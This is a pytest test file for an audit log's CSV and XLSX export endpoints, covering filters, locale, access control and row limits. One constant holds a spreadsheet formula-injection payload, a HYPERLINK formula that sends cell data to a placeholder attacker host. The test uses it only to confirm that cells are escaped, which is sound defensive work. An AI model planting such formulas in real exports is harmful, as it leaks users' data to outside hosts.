"""GET /audit/export.csv and .xlsx: the events GET /audit lists, as a file."""

from __future__ import annotations

import csv
import io
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from siaga.audit.service import Actor, record
from siaga.audit_trail import export as audit_export
from siaga.models import AuditEvent, Role, User
from tests.fixtures.auth import bearer, create_api_key
from tests.fixtures.factories import create_region, create_user
from tests.helpers import API, assert_error

CSV = f"{API}/audit/export.csv"
XLSX = f"{API}/audit/export.xlsx"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
LoginAs = Callable[[User], Awaitable[dict[str, str]]]
T0 = datetime(2024, 1, 10, 12, 0, tzinfo=UTC)
INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


async def _event(
    session: AsyncSession,
    action: str,
    *,
    at: datetime,
    actor: str = "budi",
    outcome: str = "success",
    entity: tuple[str, str] = ("user", "siti"),
    region: str | None = None,
    after: dict[str, Any] | None = None,
) -> AuditEvent:
    event = record(
        session,
        Actor(actor, client_addr="10.0.0.9", request_id=f"req-{action}"),
        action,
        entity_type=entity[0],
        entity_id=entity[1],
        region_code=region,
        outcome=outcome,
        after=after or {"full_name": "B"},
    )
    event.occurred_at = at
    await session.flush()
    return event


async def _trail(session: AsyncSession) -> None:
    await _event(session, "auth.login", at=T0, actor="budi", region="64")
    await _event(session, "user.create", at=T0 + timedelta(hours=1), region="64.72")
    await _event(session, "user.update", at=T0 + timedelta(hours=2), actor="ani", region="63")
    await _event(
        session,
        "authz.denied",
        at=T0 + timedelta(hours=3),
        outcome="denied",
        entity=("route", "POST /api/v1/users"),
    )


def _csv_rows(response: httpx.Response, delimiter: str = ",") -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8").removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def _xlsx_rows(response: httpx.Response) -> list[dict[str, Any]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX_TYPE
    book = CalamineWorkbook.from_filelike(io.BytesIO(response.content))
    header, *rows = book.get_sheet_by_index(0).to_python()
    return [dict(zip(header, row, strict=True)) for row in rows]


def _exports_only_the_trail(rows: list[dict[str, Any]]) -> list[str]:
    # The export records itself; a file never holds its own record (see below).
    return [row["action"] for row in rows]


class TestExport:
    async def test_csv_holds_every_field_newest_first(
        self, client: httpx.AsyncClient, session: AsyncSession
    ) -> None:
        await _trail(session)
        response = await client.get(CSV)
        assert response.headers["content-disposition"].startswith(
            'attachment; filename="siaga-audit-nasional-'
        )
        assert response.headers["cache-control"] == "private, no-store"
        rows = _csv_rows(response)
        assert _exports_only_the_trail(rows) == [
            "authz.denied",
            "user.update",
            "user.create",
            "auth.login",
        ]
        login = rows[-1]
        assert {k: v for k, v in login.items() if k != "id"} == {
            "occurred_at": "2024-01-10T12:00:00Z",
            "actor": "budi",
            "action": "auth.login",
            "outcome": "success",
            "entity_type": "user",
            "entity_id": "siti",
            "region_code": "64",
            "client_addr": "10.0.0.9",
            "request_id": "req-auth.login",
            "before": "",
            "after": '{"full_name": "B"}',
        }

    async def test_xlsx_holds_the_same_rows(
        self, client: httpx.AsyncClient, session: AsyncSession
    ) -> None:
        await _trail(session)
        rows = _xlsx_rows(await client.get(XLSX))
        assert _exports_only_the_trail(rows) == [
            "authz.denied",
            "user.update",
            "user.create",
            "auth.login",
        ]
        assert rows[-1]["occurred_at"] == datetime(2024, 1, 10, 12, 0)
        assert rows[0]["entity_id"] == "POST /api/v1/users"

    @pytest.mark.parametrize("url", [CSV, XLSX])
    @pytest.mark.parametrize(
        ("params", "expected"),
        [
            ({"actor": "ani"}, ["user.update"]),
            ({"action": "user."}, ["user.update", "user.create"]),
            ({"outcome": "refused"}, ["authz.denied"]),
            ({"entity": "route"}, ["authz.denied"]),
            ({"entity_id": "siti", "actor": "budi"}, ["user.create", "auth.login"]),
            (
                {"since": "2024-01-10T20:00:00+07:00", "until": "2024-01-10T22:00:00+07:00"},
                ["user.update", "user.create"],
            ),
            ({"actor": "tidak.ada"}, []),
        ],
        ids=["actor", "action-prefix", "refused", "entity", "combined", "time-range", "none"],
    )
    async def test_filters_are_those_of_the_list(
        self,
        client: httpx.AsyncClient,
        session: AsyncSession,
        url: str,
        params: dict[str, str],
        expected: list[str],
    ) -> None:
        await _trail(session)
        listed = (await client.get(f"{API}/audit", params=params)).json()["items"]
        assert [item["action"] for item in listed] == expected
        response = await client.get(url, params=params)
        rows = _csv_rows(response) if url == CSV else _xlsx_rows(response)
        assert _exports_only_the_trail(rows) == expected

    async def test_locale_id_is_what_indonesian_excel_opens(
        self, client: httpx.AsyncClient, session: AsyncSession
    ) -> None:
        await _event(
            session, "user.update", at=T0, after={"catatan": "rapat; dua kali", "nilai": 12.5}
        )
        response = await client.get(CSV, params={"locale": "id"})
        assert response.content.startswith(b"\xef\xbb\xbfid;occurred_at;actor;action;")
        (row,) = _csv_rows(response, delimiter=";")
        # The JSON keeps its own dot: it is text, not a number of the sheet.
        assert row["after"] == '{"catatan": "rapat; dua kali", "nilai": 12.5}'
        assert row["actor"] == "budi"

    @pytest.mark.parametrize("url", [CSV, XLSX])
    async def test_cells_cannot_run_as_formulas(
        self, client: httpx.AsyncClient, session: AsyncSession, url: str
    ) -> None:
        await _event(session, "user.update", at=T0, actor=INJECTION, entity=("user", "+1-555"))
        response = await client.get(url)
        (row,) = _csv_rows(response) if url == CSV else _xlsx_rows(response)
        assert row["actor"] == "'" + INJECTION
        assert row["entity_id"] == "'+1-555"
        if url == XLSX:
            assert b"<f>" not in response.content

    async def test_the_export_is_audited_with_its_filters(
        self, client: httpx.AsyncClient, session: AsyncSession
    ) -> None:
        await _trail(session)
        response = await client.get(CSV, params={"action": "user.", "locale": "id"})
        assert response.status_code == 200
        (event,) = (
            await session.scalars(select(AuditEvent).where(AuditEvent.action == "audit.export"))
        ).all()
        assert (event.actor_label, event.entity_type, event.entity_id) == (
            "admin.nasional",
            "audit_trail",
            "csv",
        )
        assert event.after == {"format": "csv", "rows": 2, "filters": {"action": "user."}}
        # The next export finds it like any other event.
        rows = _csv_rows(await client.get(CSV, params={"action": "audit."}))
        assert [row["action"] for row in rows] == ["audit.export"]

    async def test_too_many_events_is_refused_before_any_row(
        self,
        client: httpx.AsyncClient,
        session: AsyncSession,
        monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        await _trail(session)
        monkeypatch.setattr(audit_export, "MAX_EXPORT_ROWS", 3)
        response = await client.get(XLSX)
        body = assert_error(response, 422, "audit_export_too_large")
        assert body["details"] == [{"limit": 3, "total": 4}]
        # Narrowed to the bound, it is served.
        assert len(_csv_rows(await client.get(CSV, params={"actor": "budi"}))) == 3


class TestWhoMayExport:
    async def test_provincial_admin_gets_only_its_subtree(
        self, anon_client: httpx.AsyncClient, session: AsyncSession, login_as: LoginAs
    ) -> None:
        await _trail(session)
        await _event(session, "user.create", at=T0, region="640")  # same prefix, other code
        province = await create_region(session, code="64")
        admin = await create_user(session, role=Role.ADMIN, region=province)
        response = await anon_client.get(CSV, headers=await login_as(admin))
        rows = _csv_rows(response)
        assert [(r["action"], r["region_code"]) for r in rows] == [
            ("user.create", "64.72"),
            ("auth.login", "64"),
        ]
        assert 'filename="siaga-audit-64-' in response.headers["content-disposition"]

    @pytest.mark.parametrize("url", [CSV, XLSX])
    @pytest.mark.parametrize("role", [Role.VIEWER, Role.VERIFIER, Role.OPERATOR])
    async def test_other_roles_are_refused(
        self,
        anon_client: httpx.AsyncClient,
        session: AsyncSession,
        login_as: LoginAs,
        url: str,
        role: Role,
    ) -> None:
        user = await create_user(session, role=role)
        assert_error(await anon_client.get(url, headers=await login_as(user)), 403, "forbidden")

    @pytest.mark.parametrize("url", [CSV, XLSX])
    async def test_anonymous_is_refused(self, anon_client: httpx.AsyncClient, url: str) -> None:
        assert_error(await anon_client.get(url), 401, "not_authenticated")

    async def test_a_read_only_api_key_is_refused(
        self, anon_client: httpx.AsyncClient, session: AsyncSession, app: Any
    ) -> None:
        key = await create_api_key(session, app.state.settings, scopes=["read"])
        assert_error(await anon_client.get(CSV, headers=bearer(key)), 403, "forbidden")

    @pytest.mark.parametrize(
        ("url", "params"),
        [
            (CSV, {"since": "2024-01-10T13:00:00"}),
            (CSV, {"until": "kemarin"}),
            (XLSX, {"since": "0.5"}),
            (CSV, {"outcome": "maybe"}),
            (XLSX, {"actor": ""}),
            (CSV, {"entity_id": "x" * 121}),
            (CSV, {"locale": "fr"}),
        ],
        ids=[
            "naive-since",
            "not-a-date",
            "number-as-date",
            "unknown-outcome",
            "empty-actor",
            "long-entity-id",
            "unknown-locale",
        ],
    )
    async def test_bad_filter_is_422(
        self, client: httpx.AsyncClient, url: str, params: dict[str, str]
    ) -> None:
        assert_error(await client.get(url, params=params), 422, "invalid_input")
